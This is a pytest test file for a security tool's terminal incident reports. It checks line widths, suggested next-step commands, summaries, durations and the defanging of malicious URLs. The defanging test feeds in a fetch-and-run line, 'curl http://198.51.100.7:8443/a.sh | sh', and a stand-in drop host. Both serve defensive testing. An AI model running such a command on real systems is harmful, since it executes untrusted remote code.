"""An incident on a terminal: it fits, and the next steps that it names can be taken."""

from __future__ import annotations

import re
import shlex

import msgspec
import pytest

from schemas.decisions import DecisionKind
from schemas.incidents.states import CommandStatus
from streams.cli.choices import chosen_command, chosen_task
from streams.reports.incident_text import SHOWN, incident_text
from streams.reports.incident_words import Defanging, duration, next_steps, summary, where
from tests.schemas import examples
from tests.streams.reports.test_incident_report import incident


def commands(*states: str, **changes):
    view = examples.alert().commands[0]
    return tuple(
        msgspec.structs.replace(
            view, state=state, spec=examples.command(command_id=f"cmd-{number}", **changes)
        )
        for number, state in enumerate(states, 1)
    )


def test_no_line_is_wider_than_the_terminal_and_no_key_is_broken():
    document = incident(findings=tuple(examples.finding() for _ in range(40)))
    for columns in (80, 100):
        lines = list(incident_text(document, columns))
        assert max(map(len, lines)) <= columns
        assert any(line.strip() == document.root for line in lines)
    assert f"  {40 - SHOWN} more: see the report, or --format json" in lines


def test_every_step_is_a_command_that_is_accepted():
    states = ("issued", "proposed", "failed", "expired", "advised", "rejected", "done")
    document = incident(status="new", commands=commands(*states))
    steps = next_steps(document)
    assert len(steps) == 7
    for step in steps:
        if not step.command:
            continue
        _, _, verb, named, number, *_ = shlex.split(step.command)
        assert document.id.startswith(named)
        if verb == "complete":
            assert chosen_task(document, number) in document.tasks
        elif verb != "assign":
            chosen_command(document, number, DecisionKind(verb))  # raises where it does not apply


def test_what_has_no_version_to_go_back_to_is_to_be_chosen_and_not_approved():
    rollback = commands("proposed", action="rollback")
    steps = next_steps(incident(commands=rollback, tasks=()))
    assert [step.text for step in steps] == [
        "Choose a version to roll back to, and roll back by hand: no. 1"
    ]
    ready = commands("proposed", action="rollback", rollback_digest=examples.DIGEST)
    (step,) = next_steps(incident(commands=ready, tasks=()))
    assert step.command == 'tidewatch incidents approve inc-1 cmd-1 --reason "WHY"'


def test_a_step_names_a_command_by_its_id_as_numbers_change_with_the_incident():
    alike = ("f6c645c0-6908-5fad", "f6c645c0-6908-5fbb", "12345678-6908-5fad")
    made = tuple(
        msgspec.structs.replace(view, spec=msgspec.structs.replace(view.spec, command_id=uid))
        for uid, view in zip(alike, commands("proposed", "advised", "failed"), strict=True)
    )
    before = incident(commands=made, tasks=())
    after = incident(commands=(*commands("issued", "proposed"), *reversed(made)), tasks=())
    for step in next_steps(before):
        *_, verb, _, named, _, _ = shlex.split(step.command)
        chosen = [
            chosen_command(document, named, DecisionKind(verb)) for document in (before, after)
        ]
        assert chosen[0] == chosen[1]


@pytest.mark.parametrize("status", ["closed", "false-positive", "withdrawn"])
def test_what_has_ended_asks_for_no_step(status):
    assert next_steps(incident(status=status, commands=commands("proposed"))) == []


def test_the_summary_counts_and_says_one_of_one():
    reported = summary(incident(tenant_count=1))
    assert reported.to_whom.startswith("1 system of 1 tenant is affected: tenant-a (1).")
    assert reported.done == "Of 1 command, 1 is done. Of 1 task, none is done."
    assert "known by Tidewatch's scan of the same bytes" in reported.known
    more = summary(incident(commands=commands(*[state.value for state in CommandStatus])))
    assert more.done.startswith(f"Of {len(CommandStatus)} commands, 1 is done, 1 is under way, ")
    assert sum(map(int, re.findall(r"\d+", more.done.partition(",")[2].partition(". Of")[0]))) == (
        len(CommandStatus)
    ), "every state is counted"


def test_what_a_finding_does_not_say_is_not_shown():
    finding = msgspec.structs.replace(examples.finding(), evidence={"file": None, "line": 0})
    assert where(finding) == "line 0"
    text = "\n".join(incident_text(incident(findings=(finding,))))
    assert "None" not in text


def test_urls_and_the_hosts_of_the_incident_cannot_be_clicked():
    finding = msgspec.structs.replace(
        examples.finding(), evidence={"url": "https://drop.evil.example/x"}
    )
    defanged = Defanging(incident(findings=(finding,)))
    assert defanged("curl http://198.51.100.7:8443/a.sh | sh") == (
        "curl hxxp://198[.]51[.]100[.]7:8443/a.sh | sh"
    )
    assert defanged("to DROP.evil.example, not x.drop.evil.example.org") == (
        "to DROP[.]evil[.]example, not x.drop.evil.example.org"
    )
    key = "model:@acme/registry.acme.example/acme/m@1.2"
    assert defanged(key) == key, "what is ours can be pasted"


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(None, "not yet"), (0.4, "0 s"), (61, "1 min 1 s"), (7260, "2 h 1 min"),
     (86_400, "1 day 0 h"), (1_167_966, "13 days 12 h")],
)  # fmt: skip
def test_durations_are_written_in_two_units(seconds, text):
    assert duration(seconds) == text
